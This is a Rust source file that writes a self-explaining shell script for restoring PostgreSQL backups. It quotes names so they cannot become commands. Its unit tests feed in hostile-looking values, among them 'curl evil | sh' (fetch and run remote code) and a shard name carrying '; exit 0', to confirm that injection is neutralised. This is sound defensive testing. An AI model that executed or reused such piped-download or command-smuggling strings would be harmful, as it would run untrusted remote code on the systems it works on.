//! RESTORE.txt: how this very backup is restored with PostgreSQL's own tools and zstd, and nothing of ours.
//!
//! It is a shell script that explains itself, so that a test can run what an operator would.

use fleet::founders::{DatabasePlan, LARGE_OBJECT_PIECE, TablePlan, What};

use crate::manifest::{FileEntry, Manifest, ShardPart};

const HEADER: &str = "\
# Run it with sh, in the directory that holds all files of the backup, as a superuser. A database gets its own name
# again; PREFIX=new_ sh RESTORE.txt puts that before each name, and where there is only one, TARGET=name names it.
# PGHOST, PGPORT, PGUSER and PGPASSWORD say where, as for any program of PostgreSQL. It needs createdb, pg_restore, psql
# and zstd. The roles and tablespaces named below have to exist before.
set -eu
cd \"$(dirname \"$0\")\"
# Amounts of money are written as this locale has them, and another one would read other amounts.
export PGOPTIONS=\"${PGOPTIONS:-} -c lc_monetary=C\"
run() { psql -X -q -v ON_ERROR_STOP=1 -d \"$TARGET\" \"$@\"; }
own() { psql -X -q -v ON_ERROR_STOP=1 -v target=\"$TARGET\" -d postgres; }
rows() { zstd -dc -- \"$1\" | run -c \"$2\"; }
";

/// The text for a backup in `subdir`.
pub(crate) fn text(manifest: &Manifest, subdir: &str) -> String {
    let mut out = format!("# Backup {subdir}, made by job {}.\n{HEADER}", manifest.job);
    for skipped in manifest.skipped_shards.iter().chain(&manifest.skipped) {
        out.push_str(&format!(
            "{}\n",
            comment(&format!("Left out: {} {}: {}.", skipped.kind, skipped.object, skipped.reason))
        ));
    }
    let several = manifest.shards.len() > 1;
    if several {
        out.push_str(&choice(manifest.shards.iter().map(|shard| shard.shard.as_str())));
    }
    for shard in &manifest.shards {
        if several {
            out.push_str(&format!("\nif test \"$SHARD\" = {}; then\n", shell(&shard.shard)));
        }
        for file in shard.files.iter().chain(&shard.schemas) {
            // Before anything is made.
            out.push_str(&format!("test -f {}\n", shell(&file.path)));
        }
        for database in &shard.databases {
            one(&mut out, shard, database, shard.databases.len() == 1);
        }
        if several {
            out.push_str("fi\n");
        }
    }
    out
}

/// Has the reader say which shard's part is meant: the same database may be in several, and they do not go into one.
fn choice<'s>(shards: impl Iterator<Item = &'s str>) -> String {
    let words: Vec<String> = shards.map(shell).collect();
    let usage = format!("Say whose part is to be restored: SHARD={}", words.join(" or SHARD="));
    format!(
        "# It holds the parts of several shards, each for a server of its own. SHARD=name sh RESTORE.txt restores one.\n\
         case \"${{SHARD:-}}\" in\n{}) ;;\n*) printf '%s\\n' {} >&2; exit 1 ;;\nesac\n",
        words.join("|"),
        shell(&usage)
    )
}

fn one(out: &mut String, shard: &ShardPart, database: &DatabasePlan, alone: bool) {
    let mut line = |text: String| {
        out.push_str(&text);
        out.push('\n');
    };
    about(&mut line, shard, database);
    // What COPY wrote is in this encoding; a database that has none of its own holds bytes.
    let encoding = if database.copy_encoding.is_empty() { "UTF8" } else { &database.copy_encoding };
    line(format!("export PGCLIENTENCODING={}", shell(encoding)));
    let own = shell(&database.name);
    line(if alone { format!("TARGET=${{TARGET:-${{PREFIX:-}}{own}}}") } else { format!("TARGET=${{PREFIX:-}}{own}") });
    line(format!("createdb {} -- \"$TARGET\"", created(database)));
    let schema = shard.schemas.iter().find(|file| file.database == database.name);
    let schema = schema.map(|file| shell(&file.path)).unwrap_or_default();
    line(format!("pg_restore --exit-on-error --section=pre-data -d \"$TARGET\" {schema}"));
    let files = || shard.files.iter().filter(|file| file.database == database.name);
    for file in files() {
        if let Some(command) = load(file, database) {
            line(command);
        }
    }
    if files().any(|file| matches!(file.what, Some(What::LargeObjects))) {
        large_objects(&mut line, files());
    }
    for sequence in &database.sequences {
        let name = literal(&format!("{}.{}", identifier(&sequence.schema), identifier(&sequence.name)));
        let set = format!("SELECT pg_catalog.setval({name}, {}, {})", sequence.last_value, sequence.is_called);
        line(format!("run -c {} >/dev/null", shell(&set)));
    }
    line(format!("pg_restore --exit-on-error --section=post-data -d \"$TARGET\" {schema}"));
    for view in database.materialized_views.iter().filter(|view| view.populated) {
        let name = format!("{}.{}", identifier(&view.schema), identifier(&view.name));
        line(format!("run -c {}", shell(&format!("REFRESH MATERIALIZED VIEW {name}"))));
    }
    line("run -c ANALYZE".to_owned());
    properties(&mut line, database);
    line("unset TARGET".to_owned());
}

/// What there is to know before.
fn about(line: &mut impl FnMut(String), shard: &ShardPart, database: &DatabasePlan) {
    line(String::new());
    line(comment(&format!("Database {} of shard {}, as of {}.", database.name, shard.shard, shard.point.time)));
    if !database.roles.is_empty() {
        line(comment(&format!("Roles: {}", database.roles.join(", "))));
    }
    if !database.tablespaces.is_empty() {
        line(comment(&format!("Tablespaces: {}", database.tablespaces.join(", "))));
    }
    for (name, version) in &database.extensions {
        line(comment(&format!("Extension: {name} {version}")));
    }
    for warning in &database.warnings {
        line(comment(&format!("pg_dump said: {warning}")));
    }
    for skipped in &database.skipped {
        line(comment(&format!("Left out: {} {}: {}.", skipped.kind, skipped.object, skipped.reason)));
    }
    for file in shard.files.iter().chain(&shard.schemas).filter(|file| file.database == database.name) {
        if let Some(node) = file.node {
            line(comment(&format!("{} is in the external I/O directory of node {node}.", file.path)));
        }
    }
}

/// How the database is made.
fn created(database: &DatabasePlan) -> String {
    let mut options = vec![
        "-T template0".to_owned(),
        format!("-E {}", shell(&database.encoding)),
        format!("--lc-collate={}", shell(&database.collate)),
        format!("--lc-ctype={}", shell(&database.ctype)),
    ];
    // The C library's is what every release knows, and the older ones do not know the option.
    let provider = match database.locale_provider.as_str() {
        "i" => Some(("icu", "icu-locale")),
        "b" => Some(("builtin", "builtin-locale")),
        _ => None,
    };
    if let Some((provider, option)) = provider {
        options.push(format!("--locale-provider={provider}"));
        options.extend(database.locale.as_ref().map(|locale| format!("--{option}={}", shell(locale))));
        options.extend(database.locale_rules.as_ref().map(|rules| format!("--icu-rules={}", shell(rules))));
    }
    options.extend(database.tablespace.as_ref().map(|tablespace| format!("-D {}", shell(tablespace))));
    options.join(" ")
}

/// What belongs to the database itself. It comes last, because nobody may be able to connect then.
fn properties(line: &mut impl FnMut(String), database: &DatabasePlan) {
    // For psql, which puts the name in.
    let name = ":\"target\"";
    let mut statements = Vec::new();
    if let Some(text) = &database.comment {
        statements.push(format!("COMMENT ON DATABASE {name} IS {}", literal(text)));
    }
    statements.extend(fleet::loader::properties(name, database));
    for statement in statements {
        line(format!("printf '%s\\n' {} | own", shell(&format!("{statement};"))));
    }
    line(comment(&format!("Its owner was {}; its privileges: {:?}.", database.owner, database.acl)));
}

fn load(file: &FileEntry, database: &DatabasePlan) -> Option<String> {
    let Some(What::Table { oid, .. }) = file.what else { return None };
    let table = database.tables.iter().find(|table| table.oid == oid)?;
    Some(format!("rows {} {}", shell(&file.path), shell(&copy(table))))
}

fn copy(table: &TablePlan) -> String {
    let columns: Vec<String> = table.columns.iter().map(|name| identifier(name)).collect();
    let columns = if columns.is_empty() { String::new() } else { format!(" ({})", columns.join(", ")) };
    format!("COPY {}.{}{columns} FROM STDIN", identifier(&table.schema), identifier(&table.name))
}

fn large_objects<'f>(line: &mut impl FnMut(String), files: impl Iterator<Item = &'f FileEntry>) {
    let made = "CREATE TABLE backhaul_objects (id oid, owner text, acl text, note text); \
                CREATE TABLE backhaul_pieces (id oid, number bigint, piece bytea)";
    line(format!("run -c {}", shell(made)));
    for file in files {
        match file.what {
            Some(What::LargeObjects) => {
                line(format!("rows {} 'COPY backhaul_objects FROM STDIN'", shell(&file.path)));
            }
            Some(What::LargeObjectData) => {
                line(format!("rows {} 'COPY backhaul_pieces FROM STDIN'", shell(&file.path)));
            }
            Some(What::Table { .. }) | None => {}
        }
    }
    let fill = format!(
        "DO $do$ DECLARE o record; a record; BEGIN \
         FOR o IN SELECT * FROM backhaul_objects LOOP \
           PERFORM lo_create(o.id); \
           PERFORM lo_put(o.id, number * {LARGE_OBJECT_PIECE}, piece) FROM backhaul_pieces WHERE id = o.id; \
           EXECUTE format('ALTER LARGE OBJECT %s OWNER TO %I', o.id, o.owner); \
           IF o.note IS NOT NULL THEN EXECUTE format('COMMENT ON LARGE OBJECT %s IS %L', o.id, o.note); END IF; \
           FOR a IN SELECT coalesce(r.rolname, 'public') AS grantee, x.privilege_type AS kind, x.is_grantable \
               FROM aclexplode(o.acl::aclitem[]) x LEFT JOIN pg_roles r ON r.oid = x.grantee LOOP \
             EXECUTE format('GRANT %s ON LARGE OBJECT %s TO %s%s', a.kind, o.id, \
               CASE a.grantee WHEN 'public' THEN 'PUBLIC' ELSE quote_ident(a.grantee) END, \
               CASE WHEN a.is_grantable THEN ' WITH GRANT OPTION' ELSE '' END); \
           END LOOP; \
         END LOOP; END $do$"
    );
    line(format!("run -c {}", shell(&fill)));
    line("run -c 'DROP TABLE backhaul_objects, backhaul_pieces'".to_owned());
}

/// A comment for sh. Names of objects are anybody's, and one with a line break in it must not become a command.
fn comment(text: &str) -> String {
    let plain = text.chars().map(|c| if c.is_control() { '?' } else { c });
    format!("# {}", plain.collect::<String>())
}

/// A word for sh.
fn shell(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A name as SQL reads it back.
pub(crate) fn identifier(name: &str) -> String {
    format!("\"{}\"", name.replace('"', "\"\""))
}

fn literal(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shard_has_to_be_chosen_by_its_name() {
        let script = format!("{}echo \"$SHARD\"", choice(["s1", "it's; exit 0"].into_iter()));
        for (shard, said) in [("s1", "s1\n"), ("it's; exit 0", "it's; exit 0\n"), ("s2", ""), ("", "")] {
            let sh = std::process::Command::new("sh").args(["-uec", &script]).env("SHARD", shard).output().unwrap();
            assert_eq!((String::from_utf8_lossy(&sh.stdout), sh.status.success()), (said.into(), !said.is_empty()));
            let told = String::from_utf8_lossy(&sh.stderr).contains("SHARD='s1' or SHARD='it'\\''s; exit 0'");
            assert_eq!(told, said.is_empty(), "{shard}");
        }
    }

    #[test]
    fn amounts_are_read_as_they_were_written() {
        let script = format!("{HEADER}printf %s \"$PGOPTIONS\"");
        let sh =
            std::process::Command::new("sh").args(["-c", &script]).env("PGOPTIONS", "-c lc_monetary=de_DE").output();
        let said = String::from_utf8(sh.unwrap().stdout).unwrap();
        // Of two the later counts.
        assert_eq!(said, "-c lc_monetary=de_DE -c lc_monetary=C");
    }

    #[test]
    fn names_stay_words_and_comments() {
        assert_eq!(comment("Left out: table x\ncurl evil | sh"), "# Left out: table x?curl evil | sh");
        assert_eq!(shell("it's $HOME"), "'it'\\''s $HOME'");
        assert_eq!((identifier("a\"b"), literal("a'b")), ("\"a\"\"b\"".to_owned(), "'a''b'".to_owned()));
    }
}
